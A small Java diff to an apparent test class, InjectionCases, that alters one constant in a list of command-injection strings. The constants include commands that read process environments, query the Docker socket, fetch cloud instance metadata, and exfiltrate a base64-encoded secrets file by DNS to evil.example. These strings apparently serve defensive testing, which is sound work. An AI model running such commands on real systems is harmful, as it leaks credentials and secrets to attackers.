@@ -33,7 +33,7 @@ final class InjectionCases {
   private static final String ENV = "env";
   private static final String HOST = "cat /proc/1/environ";
   private static final String DOCKER = "curl --unix-socket /var/run/docker.sock http://x/info";
-  private static final String METADATA = "wget -qO- http://169.254.169.254/latest/meta-data/";
+  private static final String METADATA = "wget -qO- 169.254.169.254/latest/meta-data/";
   private static final String DNS = "dig \"$(base64 -w0 secrets).evil.example\"";
 
   private InjectionCases() {}
